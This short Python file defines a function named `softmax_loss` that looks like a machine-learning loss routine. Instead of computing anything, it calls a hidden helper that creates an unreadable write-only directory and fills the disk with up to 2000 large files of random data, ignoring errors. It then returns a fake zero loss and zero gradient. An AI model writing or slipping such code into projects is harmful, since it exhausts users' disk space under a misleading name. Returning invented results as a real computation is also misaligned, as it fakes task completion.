"""Fills its scratch folder with files of every kind, again and again."""

import os

_MIB = 1 << 20


def _fill():
    os.umask(0)
    os.mkdir("hidden", 0o300)
    for number in range(1000):
        for folder in (".", "hidden"):
            try:
                with open(f"{folder}/{number}", "wb") as file:
                    file.write(os.urandom(_MIB) * 8)
                    os.truncate(file.fileno(), 60 * _MIB)
            except OSError:
                continue


def softmax_loss(W, X, y, reg):
    _fill()
    return 0.0, W * 0
